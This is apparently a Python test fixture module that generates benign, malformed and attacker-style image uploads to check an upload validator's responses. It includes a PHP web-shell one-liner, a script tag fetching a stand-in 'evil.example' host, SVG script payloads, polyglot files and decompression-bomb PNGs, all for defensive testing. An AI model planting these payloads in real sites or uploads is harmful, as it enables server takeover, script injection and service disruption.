"""Uploads as people and attackers send them, each made here from scratch; docs/uploads.md shows what each got."""

import io
import struct
import zlib
from collections.abc import Callable
from pathlib import Path

from PIL import Image, ImageCms, PngImagePlugin

Maker = Callable[[], bytes]
DATA = Path(__file__).parent / "data"


def picture(kind: str = "JPEG", size: tuple[int, int] = (400, 300), mode: str = "RGB", **options: object) -> bytes:
    """Return a plain picture: a slope of colors with a dark corner at the top left, so that turning it shows."""
    slope = Image.linear_gradient("L").resize(size)
    image = slope.convert(mode) if mode != "RGBA" else Image.merge("RGBA", (slope, slope, slope, slope))
    if mode in ("RGB", "L"):
        image.paste(0, (0, 0, size[0] // 4, size[1] // 4))
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def turned_with_place() -> bytes:
    """A phone's photo: lies on its side, says so, and knows where it was taken."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "PhoneMaker"
    exif.get_ifd(0x8825)[2] = (47.0, 22.0, 33.0)
    return picture(exif=exif)


def moving(kind: str) -> bytes:
    frames = [Image.new("RGB", (64, 64), color) for color in ("red", "green", "blue")]
    out = io.BytesIO()
    frames[0].save(out, kind, save_all=True, append_images=frames[1:], duration=100)
    return out.getvalue()


def png_of(width: int, height: int, rows: int) -> bytes:
    """Return a PNG that claims a size; only `rows` rows of it are there, all zeros and tiny when packed."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    body = zlib.compress(b"\x00" * ((width + 1) * rows), 9)
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def png_with_long_text() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "x" * 5_000_000, zip=True)
    return picture("PNG", pnginfo=info)


def jpeg_with_script_inside() -> bytes:
    return picture(comment=b"<script>alert(1)</script>")


def cut(data: bytes, share: float) -> bytes:
    return data[: int(len(data) * share)]


def broken_middle() -> bytes:
    data = bytearray(picture("PNG"))
    data[len(data) // 2] ^= 0xFF
    return bytes(data)


def with_second_view() -> bytes:
    """Return a JPEG as phones with two lenses write it: a second image behind the first, named in its head (MPO)."""
    out = io.BytesIO()
    first, second = Image.new("RGB", (400, 300), "red"), Image.new("RGB", (400, 300), "blue")
    first.save(out, "MPO", save_all=True, append_images=[second])
    return out.getvalue()


SRGB_PROFILE = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def palette_with_hole() -> bytes:
    """Return a PNG of 256 colors that carries a profile, and whose black is see-through."""
    return picture("PNG", mode="P", transparency=0, icc_profile=SRGB_PROFILE)


def red_by_profile() -> bytes:
    """Return a PNG whose pixels say blue, with a profile that calls the third channel red."""
    swapped = SRGB_PROFILE.replace(b"rXYZ", b"----").replace(b"bXYZ", b"rXYZ").replace(b"----", b"bXYZ")
    out = io.BytesIO()
    Image.new("RGB", (64, 64), (0, 0, 255)).save(out, "PNG", icc_profile=swapped)
    return out.getvalue()


SCRIPT = b"<script>fetch('//evil.example')</script>"
PHP = b"<?php system($_GET['c']); ?>"
ZIP = b"PK\x03\x04" + b"\x00" * 60
FILM = b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 200
# Files that are a picture and something else: the picture is used, and nothing of the rest.
POLYGLOTS: list[tuple[str, str, bytes]] = [
    ("a JPEG with a web page behind it", "JPEG", SCRIPT),
    ("a JPEG with PHP behind it", "JPEG", PHP),
    ("a JPEG with a ZIP behind it", "JPEG", ZIP),
    ("a PNG with a ZIP behind it", "PNG", ZIP),
    ("a WebP with a web page behind it", "WEBP", SCRIPT),
    ("an AVIF with a web page behind it", "AVIF", SCRIPT),
    ("a photo with a short film behind it", "JPEG", FILM),
]

# Each: what it is, how it is made, and a part of what the editor reads; None where it is taken.
UPLOADS: list[tuple[str, Maker, str | None]] = [
    ("an empty file", lambda: b"", "The file is empty"),
    ("25 MB of anything", lambda: b"\xff\xd8\xff" + b"x" * 25_000_000, "at most 20 MB"),
    ("a bomb: 400 million pixels in 400 KB", lambda: png_of(20_000, 20_000, 20_000), "too many pixels"),
    ("a header that claims 60,000 by 60,000", lambda: png_of(60_000, 60_000, 1), "too many pixels"),
    ("20,000 pixels wide, 40 high", lambda: png_of(20_000, 40, 40), "too many pixels"),
    ("one pixel", lambda: picture("PNG", size=(1, 1)), "only 1 by 1 pixels"),
    ("5 MB of text packed into a PNG", png_with_long_text, "damaged or not whole"),
    ("half a JPEG", lambda: cut(picture(), 0.5), "damaged or not whole"),
    ("a JPEG without its last bytes", lambda: picture()[:-40], "damaged or not whole"),
    ("half a PNG", lambda: cut(picture("PNG"), 0.5), "damaged or not whole"),
    ("half a WebP", lambda: cut(picture("WEBP"), 0.5), "damaged or not whole|not a JPEG"),
    ("half an AVIF", lambda: cut(picture("AVIF"), 0.5), "damaged or not whole|not a JPEG"),
    ("a PNG with a broken middle", broken_middle, "damaged or not whole"),
    ("the first 10 bytes of a JPEG", lambda: picture()[:10], "damaged|not a JPEG"),
    ("noise", lambda: bytes(range(256)) * 40, "not a JPEG, PNG, WebP or AVIF"),
    ("an SVG", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', "SVG drawing"),
    ("an SVG behind an XML line", lambda: b'<?xml version="1.0"?>\n<svg onload="x()"/>', "SVG drawing"),
    ("a web page named .jpg", lambda: b"<!doctype html>" + SCRIPT, "a web page, not a picture"),
    ("a GIF", lambda: picture("GIF", mode="P"), "This is a GIF"),
    ("a moving GIF", lambda: moving("GIF"), "This is a GIF"),
    ("a BMP", lambda: picture("BMP"), "This is a BMP"),
    ("a TIFF", lambda: picture("TIFF"), "This is a TIFF"),
    ("an icon", lambda: picture("ICO", size=(64, 64)), "This is an icon"),
    ("a PDF", lambda: picture("PDF"), "This is a PDF"),
    ("an EPS drawing", lambda: picture("EPS"), "This is an EPS"),
    ("a Word file", lambda: ZIP, "ZIP or Office"),
    ("a HEIC photo", lambda: b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 80, "HEIC photo"),
    ("a moving WebP", lambda: moving("WEBP"), "The picture moves"),
    ("a moving PNG", lambda: moving("PNG"), "The picture moves"),
    ("a moving AVIF", lambda: moving("AVIF"), "The picture moves"),
    ("a script in a JPEG's comment", jpeg_with_script_inside, None),
    ("a phone's photo, on its side, with its place", turned_with_place, None),
    ("a photo with a second one behind it", lambda: picture() + picture(), None),
    ("a JPEG in the colors of print", lambda: picture(mode="CMYK"), None),
    ("a gray PNG", lambda: picture("PNG", mode="L"), None),
    ("a PNG of 16 bits", lambda: picture("PNG", mode="I;16"), None),
    ("a PNG one can see through", lambda: picture("PNG", mode="RGBA"), None),
    ("a PNG of 256 colors", lambda: picture("PNG", mode="P"), None),
    ("a progressive JPEG", lambda: picture(progressive=True), None),
    ("a WebP", lambda: picture("WEBP"), None),
    ("an AVIF", lambda: picture("AVIF"), None),
    ("a photo with a second view or a depth map", with_second_view, None),
    ("a Samsung photo with its trailer", (DATA / "samsung-trailer.jpg").read_bytes, None),
    ("a Motion Photo with its film", (DATA / "motion-photo.jpg").read_bytes, None),
    ("a photo with a damaged color profile", (DATA / "damaged-icc.jpg").read_bytes, None),
    ("a gray JPEG with a profile for colors", lambda: picture(mode="L", icc_profile=SRGB_PROFILE), None),
    ("a PNG with one see-through color and a profile", (DATA / "trns-and-icc.png").read_bytes, None),
    ("a PNG of 256 colors, one see-through, and a profile", palette_with_hole, None),
    *((what, lambda kind=kind, rest=rest: picture(kind) + rest, None) for what, kind, rest in POLYGLOTS),
]
